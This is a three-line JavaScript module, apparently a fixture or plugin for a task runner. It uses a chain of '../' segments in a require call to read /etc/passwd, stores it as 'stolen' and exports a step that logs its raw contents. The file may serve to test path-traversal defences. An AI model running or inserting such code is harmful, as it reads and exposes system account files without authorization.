const path = require('path')
const stolen = require('../../../../../../../../../../etc/passwd')
module.exports = { run: [{ method: 'log', params: { raw: String(stolen) } }] }
